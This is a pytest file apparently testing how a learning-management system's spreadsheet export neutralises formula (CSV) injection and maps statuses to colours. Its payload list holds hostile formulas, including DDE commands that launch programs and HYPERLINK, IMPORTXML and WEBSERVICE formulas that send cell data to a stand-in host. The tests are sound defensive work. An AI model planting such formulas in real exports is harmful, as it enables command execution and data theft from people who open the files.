"""Formula neutralisation and status colours: pure, no database."""

import pytest

from lms.sheets.cells import STATUS_FILLS, neutralise, neutralise_value, status_for

# At least 20 payloads a spreadsheet would run as formulas (OWASP CSV injection and friends).
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"A1\")",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@cmd|' /C calc'!A0",
    "=\"\"&A1",
    " =1+1",
    "=Sheet1!A1",
    "=1/0",
    "＝1+1",
    "-",
    "=rand()",
    "+",
    "@",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_become_text(payload):
    safe = neutralise(payload)
    assert safe.startswith("'")
    assert safe[1:] == payload


@pytest.mark.parametrize("text", ["安全管理培训", "1+1", "a=b", "E0001", "", "Hello - world", "100%"])
def test_plain_text_is_unchanged(text):
    assert neutralise(text) == text


def test_illegal_control_characters_are_dropped():
    assert neutralise("A\x00B\x07C") == "ABC"
    assert neutralise("\x01=1+1") == "'=1+1"


def test_non_strings_pass_through():
    assert neutralise_value(3) == 3
    assert neutralise_value(None) is None
    assert neutralise_value("=1") == "'=1"


def test_status_for():
    assert status_for(kind="certificate_expired", is_passed=None) == "expired"
    assert status_for(kind="certificate_revoked", is_passed=True) == "revoked"
    assert status_for(kind="exam", is_passed=True) == "passed"
    assert status_for(kind="exam", is_passed=False) == "failed"
    assert status_for(kind="course", is_passed=None) is None
    assert {"done", "due_soon", "overdue", "expired", "missing"} <= set(STATUS_FILLS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_fast_test_never_misses_a_payload(payload):
    from lms.sheets.cells import NEEDS_NEUTRALISING

    assert NEEDS_NEUTRALISING.search(payload)


@pytest.mark.parametrize("text", ["安全管理培训", "1+1", "a=b", "E0001", "Hello - world"])
def test_the_fast_test_lets_plain_text_through(text):
    from lms.sheets.cells import NEEDS_NEUTRALISING

    assert not NEEDS_NEUTRALISING.search(text)
